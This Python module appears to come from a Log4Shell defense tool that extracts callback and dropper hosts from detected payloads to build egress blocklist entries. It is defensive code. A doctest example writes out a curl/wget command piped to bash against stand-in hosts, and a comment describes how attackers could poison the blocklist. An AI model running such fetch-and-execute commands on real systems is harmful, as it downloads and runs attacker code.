"""Callback infrastructure found in payloads, for outbound rules and DNS firewalls.

A Log4Shell payload names the server the victim should call (an LDAP or RMI
server) and, through exploit-kit paths, the host a dropper downloads from. Both
are listed as they appear, addresses or names; l4s never resolves a name or
contacts a host found in a payload.
"""

from __future__ import annotations

import ipaddress
import re
from collections.abc import Callable
from urllib.parse import urlsplit

import msgspec

from detectors import ENGINE_VERSION
from pipeline import __version__
from pipeline.blocklist import BlockPolicy, iso, parse_time
from pipeline.events import Detection

EGRESS_SCHEMA_VERSION = 1
#: Distinct calling sources remembered per host (the count stops growing there).
MAX_SOURCES = 64

_NAME = re.compile(
    r"^(?=.{4,253}$)(?:[a-z0-9_](?:[a-z0-9_-]{0,61}[a-z0-9])?\.)+[a-z][a-z0-9-]{0,62}$"
)
_BARE = re.compile(r"^([0-9a-z._-]+?|\[[0-9a-f:]+\])(?::([0-9]{1,5}))?(/\S*)?$")
_SPLIT = re.compile(r"[\s;|&()`'\"<>]+")


class Observation(msgspec.Struct, frozen=True, kw_only=True):
    """One callback host seen in one detection.

    Args:
        role: ``jndi-server`` (the lookup target) or ``dropper`` (a download
            host named in a decoded command).
    """

    host: str
    role: str
    scheme: str = ""
    port: int | None = None
    oob: str | None = None
    source: str = ""
    timestamp: float


class EgressEntry(msgspec.Struct, frozen=True, kw_only=True):
    """The value of an egress record; the key is ``host`` (an address or a name).

    Example:
        >>> t = "2021-12-10T14:25:38Z"
        >>> EgressEntry(host="ldap.example.test", type="name", first_seen=t,
        ...     last_seen=t, expires_at="2021-12-17T14:25:38Z").type
        'name'
    """

    v: int = EGRESS_SCHEMA_VERSION
    host: str
    type: str
    action: str = "block"
    dry_run: bool = False
    roles: tuple[str, ...] = ()
    schemes: tuple[str, ...] = ()
    ports: tuple[int, ...] = ()
    oob: str | None = None
    sources: int = 0
    first_seen: str
    last_seen: str
    expires_at: str
    block_until: str | None = None
    engine: str = __version__
    detector: str = ENGINE_VERSION

    def content(self) -> tuple[object, ...]:
        return (
            self.host,
            self.type,
            self.action,
            self.dry_run,
            self.roles,
            self.schemes,
            self.ports,
            self.oob,
            self.sources,
            self.first_seen,
            self.last_seen,
        )

    @property
    def enforce(self) -> bool:
        return self.action == "block" and not self.dry_run

    @property
    def until(self) -> float:
        return parse_time(self.block_until or self.expires_at)


class EgressState(msgspec.Struct, frozen=True, kw_only=True):
    """What l4s knows of one callback host, merged from observations (idempotent)."""

    first_seen: float
    last_seen: float
    roles: frozenset[str] = frozenset()
    schemes: frozenset[str] = frozenset()
    ports: frozenset[int] = frozenset()
    oob: str | None = None
    sources: frozenset[str] = frozenset()

    def merge(self, obs: Observation) -> EgressState:
        """Union of sets, min/max of times: a redelivery changes nothing."""
        sources = self.sources
        if obs.source and obs.source not in sources and len(sources) < MAX_SOURCES:
            sources = sources | {obs.source}
        return EgressState(
            first_seen=min(self.first_seen, obs.timestamp),
            last_seen=max(self.last_seen, obs.timestamp),
            roles=self.roles | {obs.role},
            schemes=self.schemes | ({obs.scheme} if obs.scheme else set()),
            ports=self.ports | ({obs.port} if obs.port is not None else set()),
            oob=self.oob or obs.oob,
            sources=sources,
        )


def new_state(obs: Observation) -> EgressState:
    return EgressState(first_seen=obs.timestamp, last_seen=obs.timestamp).merge(obs)


def host_type(host: str) -> str:
    """``ipv4``, ``ipv6`` or ``name``."""
    try:
        return "ipv4" if ipaddress.ip_address(host).version == 4 else "ipv6"
    except ValueError:
        return "name"


def clean_host(host: str) -> str | None:
    """A canonical address or lower-case name, or None for anything else."""
    host = host.strip().strip("[]").rstrip(".").lower()
    try:
        return str(ipaddress.ip_address(host))
    except ValueError:
        pass
    if _NAME.match(host) and not host.replace(".", "").isdigit():
        return host

    return None


def command_hosts(command: str) -> list[tuple[str, int | None]]:
    """Download hosts a decoded shell command names: URL hosts and ``host:port/...``.

    Only where a token starts: a victim address inside a path is not a host.

    Example:
        >>> command_hosts("(curl -s 192.0.2.9:5874/198.51.100.1:443||wget http://a.example/x)|bash")
        [('192.0.2.9', 5874), ('a.example', None)]
    """
    found: list[tuple[str, int | None]] = []
    for token in _SPLIT.split(command):
        if "://" in token:
            try:
                parts = urlsplit(token)
                host, port = parts.hostname, parts.port
            except ValueError:
                continue
        else:
            match = _BARE.match(token.lower())
            if match is None:
                continue
            host, port_text, path = match.group(1), match.group(2), match.group(3)
            port = int(port_text) if port_text else None
            # A bare dotted word is a file name (lh.sh) unless a port or path
            # follows it, or it is an address.
            if port is None and path is None and host_type(host.strip("[]")) == "name":
                continue
        host = clean_host(host or "")
        if host is not None and (host, port) not in found:
            found.append((host, port))

    return found


def observations(detection: Detection) -> list[Observation]:
    """The callback hosts of a malicious detection."""
    if not detection.malicious:
        return []
    out: dict[tuple[str, str], Observation] = {}
    for finding in detection.findings:
        host = clean_host(finding.host) if finding.host else None
        if host is not None:
            out.setdefault(
                (host, "jndi-server"),
                Observation(
                    host=host,
                    role="jndi-server",
                    scheme=finding.scheme,
                    port=finding.port,
                    oob=finding.oob,
                    source=detection.source_ip,
                    timestamp=detection.timestamp,
                ),
            )
        for command in finding.commands:
            for dropper, port in command_hosts(command):
                out.setdefault(
                    (dropper, "dropper"),
                    Observation(
                        host=dropper,
                        role="dropper",
                        port=port,
                        source=detection.source_ip,
                        timestamp=detection.timestamp,
                    ),
                )

    return list(out.values())


def egress_entry(
    host: str, state: EgressState, policy: BlockPolicy, now: float
) -> tuple[EgressEntry | None, str | None]:
    """The egress record for a host, or None and why it is withheld."""
    # XXX(#5): a payload can name any host, so an attacker can put a victim's
    # partner on the egress list; only special ranges and the allowlist (which
    # takes names) stand in the way. A minimum of distinct calling sources would
    # blunt it but also miss single-source droppers; not decided here.
    reason = policy.allowlist.withheld_host(host, now)
    if reason is not None:
        return None, reason
    decided = max(now, state.last_seen)
    until = decided + policy.settings.egress_lifetime.total_seconds()
    entry = EgressEntry(
        host=host,
        type=host_type(host),
        dry_run=policy.settings.dry_run,
        roles=tuple(sorted(state.roles)),
        schemes=tuple(sorted(state.schemes)),
        ports=tuple(sorted(state.ports)),
        oob=state.oob,
        sources=len(state.sources),
        first_seen=iso(state.first_seen),
        last_seen=iso(state.last_seen),
        expires_at=iso(policy.lease_end(decided, until)),
        block_until=iso(until),
    )

    return entry, None


def review(
    policy: BlockPolicy,
) -> Callable[[EgressEntry, float], tuple[EgressEntry | None, str | None]]:
    """The ledger's review function for egress entries."""

    def check(entry: EgressEntry, now: float) -> tuple[EgressEntry | None, str | None]:
        reason = policy.allowlist.withheld_host(entry.host, now)
        if reason is not None:
            return None, reason
        if entry.dry_run != policy.settings.dry_run:
            entry = msgspec.structs.replace(entry, dry_run=policy.settings.dry_run)
        return entry, None

    return check
